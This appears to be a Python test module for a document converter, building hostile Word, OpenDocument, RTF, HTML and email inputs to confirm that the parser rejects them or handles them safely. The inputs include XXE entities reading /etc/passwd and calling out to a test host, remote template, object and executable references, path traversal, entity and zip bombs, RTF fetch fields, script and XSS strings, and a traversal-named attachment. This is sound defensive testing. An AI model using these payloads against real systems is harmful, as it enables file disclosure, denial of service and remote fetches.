"""Word, OpenDocument, RTF, web pages, mail."""

from tests.hostile import word as made
from tests.hostile import written
from tests.hostile.cases import FAILED, READ, Case, one
from tests.hostile.packing import zipped
from tests.hostile.running import CALL, SECRET

_BROKEN, _BOMB, _SWELLS = "Tệp Word bị hỏng", "Giải nén ra lớn bất thường", "phình quá lớn"
_HTML_BROKEN, _HTML_HUGE = "Trang web (HTML) bị hỏng", "quá lớn nên không đọc"
_TEXT = made.paragraph(made.SENTENCE)
_LEAKS = "".join(f'<!ENTITY s{n} SYSTEM "{place}">' for n, place in enumerate((f"{CALL}/xxe", "file:///etc/passwd")))
_XXE = f"<!DOCTYPE d [{_LEAKS}]>"


def _xxe() -> bytes:
    return made.docx(made.paragraph("&s0;&s1;") + _TEXT, doctype=_XXE)


def _related() -> bytes:
    parts = made.relationships(
        made.related("rId7", "attachedTemplate", f"{CALL}/mau.dotm", outside=True),
        made.related("rId8", "image", f"{CALL}/anh.png", outside=True),
        made.related("rId9", "image", "file:///etc/passwd", outside=True),
        made.related("rId10", "oleObject", f"{CALL}/may.exe", outside=True),
        made.related("rId11", "aFChunk", f"{CALL}/doan.html", outside=True),
    )
    body = _TEXT + '<w:altChunk r:id="rId11"/>'
    return made.docx(body, {"word/_rels/document.xml.rels": parts})


def _outward() -> bytes:
    parts = made.relationships(made.related("rId7", "styles", "../../../../../../etc/passwd"))
    return made.docx(_TEXT, {"word/_rels/document.xml.rels": parts})


def _circle() -> bytes:
    parts = made.relationships(
        made.related("rId7", "styles", "document.xml"), made.related("rId8", "numbering", "../word/document.xml")
    )
    return made.docx(_TEXT, {"word/_rels/document.xml.rels": parts})


def _other_kind() -> bytes:
    return made.docx(
        _TEXT, types=made.TYPES.replace("wordprocessingml.document.main+xml", "spreadsheetml.sheet.main+xml")
    )


def _quadratic() -> bytes:
    doctype = f'<!DOCTYPE d [<!ENTITY q "{"a" * 100_000}">]>'
    return made.docx(made.paragraph("&q;" * 30_000), doctype=doctype)


_ACTING = "=HYPERLINK(&quot;http://x&quot;) &lt;script&gt;alert(4711)&lt;/script&gt; \u202e[red]{{7*7}}\u2028"
# fmt: off
WORDS: tuple[Case, ...] = (
    one("word", "truncated", lambda: made.docx(_TEXT)[:500], FAILED, "bị hỏng"),
    one("word", "entities-of-our-files-and-of-a-server", _xxe, FAILED, "", unseen=("root:x:0", SECRET)),
    one("word", "entities-that-laugh", lambda: made.docx(made.paragraph("&l9;"), doctype=made.entity_bomb()), FAILED, ""),
    one("word", "entity-a-great-many-times", _quadratic, FAILED, ""),
    one("word", "doctype-on-a-server", lambda: made.docx(_TEXT, doctype=f'<!DOCTYPE d SYSTEM "{CALL}/d.dtd">'), FAILED, ""),
    one("word", "text-of-a-gib", lambda: made.swollen(1000), FAILED, _BOMB),
    one("word", "text-of-200-mib", lambda: made.swollen(200), FAILED, _SWELLS),
    one("word", "table-of-a-million-cells", lambda: made.docx(made.table(1000, 1000)), FAILED, "quá"),
    one("word", "table-of-one-row-of-20000-cells", lambda: made.docx(made.table(1, 20_000)), READ, None),
    one("word", "cell-over-two-thousand-million-columns", lambda: made.docx(made.spanning(2_000_000_000)), FAILED, ""),
    one("word", "cell-over-minus-one-column", lambda: made.docx(made.spanning(-1)), READ, None),
    one("word", "tables-100-deep", lambda: made.docx(made.nested(80)), READ, None),
    one("word", "tables-5000-deep", lambda: made.docx(made.nested(5000)), FAILED, _BROKEN),
    one("word", "macros", lambda: made.docx(_TEXT, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(999)}), READ, None, file_name="a.docm"),
    one("word", "pictures-template-and-object-on-a-server", _related, READ, None, unseen=("root:x:0",)),
    one("word", "part-outside-the-file", _outward, FAILED, _BROKEN, unseen=("root:x:0",)),
    one("word", "parts-in-a-circle", _circle, FAILED, "hỏng"),
    one("word", "part-of-another-kind", _other_kind, FAILED, _BROKEN),
    one("word", "without-its-document", lambda: zipped({"[Content_Types].xml": made.TYPES.encode(), "word/a.xml": b"<a/>"}), FAILED, _BROKEN),
    one("word", "document-is-no-xml", lambda: made.docx(b"\0\xff<<<"), FAILED, _BROKEN),
    one("word", "document-is-another-xml", lambda: made.docx(b"<a><b/></a>"), FAILED, _BROKEN),
    one("word", "10000-parts", lambda: made.docx(_TEXT, {f"word/{n}.xml": b"<a/>" for n in range(10_000)}), FAILED, ""),
    one("word", "words-that-would-act", lambda: made.docx(made.paragraph(_ACTING) + _TEXT), READ, None),
    one("word", "paragraph-of-ten-million-letters", lambda: made.docx(made.paragraph("chữ " * 2_500_000)), FAILED, ""),
    one("word", "password", lambda: written.old_word("EncryptedPackage"), FAILED, "mật khẩu"),
)
# fmt: on
_CANNOT = "không chuyển đổi được"
# fmt: off
CONVERTED: tuple[Case, ...] = (
    one("odt", "pictures-on-a-server", lambda: made.odt(made.odt_row(made.SENTENCE) + f'<text:p><draw:frame><draw:image xlink:href="{CALL}/a.png"/></draw:frame></text:p>'), READ, None),
    one("odt", "entities-of-our-files", lambda: made.odt(made.odt_row("&s1;" + made.SENTENCE), doctype=_XXE), FAILED, _CANNOT, unseen=("root:x:0",)),
    one("odt", "entities-that-laugh", lambda: made.odt(made.odt_row("&l9;"), doctype=made.entity_bomb()), FAILED, ""),
    one("odt", "text-of-300-mib", made.odt_swollen, FAILED, _BOMB),
    one("odt", "cell-repeated-without-end", lambda: made.odt(made.odt_repeating(16_000, 100_000)), READ, None, heavy=True),
    one("odt", "macro-as-it-opens", lambda: made.odt(made.odt_row(made.SENTENCE), {"Basic/Standard/a.xml": b"<a/>", "Scripts/python/a.py": b"import os"}), FAILED, "không chuyển đổi được"),
    one("rtf", "groups-100000-deep", lambda: written.rtf("{" * 100_000 + made.SENTENCE + "}" * 100_000), READ, None),
    one("rtf", "object-and-fields-that-fetch", lambda: written.rtf(f'{{\\field{{\\*\\fldinst INCLUDETEXT "{CALL}/a.doc"}}{{\\fldrslt x}}}}{{\\field{{\\*\\fldinst INCLUDEPICTURE "{CALL}/a.png" \\\\d}}{{\\fldrslt x}}}}{{\\field{{\\*\\fldinst INCLUDETEXT "/etc/passwd"}}{{\\fldrslt x}}}}{{\\object\\objautlink{{\\*\\objdata 0105}}}} Tap the can bo'), READ, None, unseen=("root:x:0",)),
    one("rtf", "bytes-it-does-not-have", lambda: written.rtf("\\bin2000000000 x"), FAILED, ""),
    one("rtf", "cut-in-a-picture", lambda: b"{\\rtf1 {\\pict\\pngblip\\picw99999999\\pich99999999 89504e47", FAILED, ""),
    one("doc", "sectors-in-a-circle", lambda: written.old_word("WordDocument"), FAILED, ""),
    one("doc", "header-alone", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "WordDocument".encode("utf-16-le"), FAILED, ""),
)
# fmt: on
# fmt: off
WEBS: tuple[Case, ...] = (
    one("web", "script-pictures-and-frames", lambda: written.web(f'<script src="{CALL}/a.js"></script><meta http-equiv=refresh content="0;url={CALL}"><iframe src="{CALL}"></iframe><img src="{CALL}/a.png"><p>{made.SENTENCE}'), READ, None),
    one("web", "elements-100000-deep", lambda: written.web("<div>" * 100_000 + made.SENTENCE), FAILED, _HTML_BROKEN),
    one("web", "inline-elements-100000-deep", lambda: written.web("<b>" * 100_000 + made.SENTENCE), FAILED, _HTML_BROKEN),
    one("web", "cell-over-endless-columns", lambda: written.web(f"<table><tr><td colspan=1000000000 rowspan=1000000000>{made.SENTENCE}</table>"), READ, None),
    one("web", "45-mib-of-elements", lambda: written.web_in_zip("<p>x", 45), "ignored", "đã mở", file_name="a.zip", inside={"trang.html": (FAILED, "quá")}),
    one("web", "entities-that-laugh", lambda: (made.DECLARED + made.entity_bomb() + f"<html><body><p>&l9; {made.SENTENCE}</p></body></html>").encode(), READ, None),
    one("web", "words-that-would-act", lambda: written.web(f"<p>&lt;script&gt;alert(4711)&lt;/script&gt; =1+1 &#x202e; &#0; {made.SENTENCE}"), READ, None),
    one("web", "nulls", lambda: b"<html><body>" + bytes(5000) + b"</body></html>", FAILED, ""),
    one("web", "parts-5000-deep", lambda: written.many_parts(5000), FAILED, "bị hỏng", file_name="a.mht"),
    one("web", "charset-that-is-no-charset", lambda: written.single_file_page("zlib_codec", f"<p>{made.SENTENCE}".encode()), READ, None, file_name="a.mht"),
    one("web", "charset-that-takes-forever", lambda: written.single_file_page("punycode", b"<p>" + b"a-" * 300_000), READ, None, file_name="a.mht"),
    one("web", "base64-cut-short", lambda: written.single_file_page("utf-8", b"PHA+VOG", "base64"), READ, None, file_name="a.mht"),
    one("web", "letter-with-a-program", lambda: b"From: a@b\nTo: c@d\nSubject: x\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: application/x-msdownload; name=../../a.exe\n\nMZ\n--b--\n", FAILED, "thư điện tử", file_name="a.eml"),
)
# fmt: on
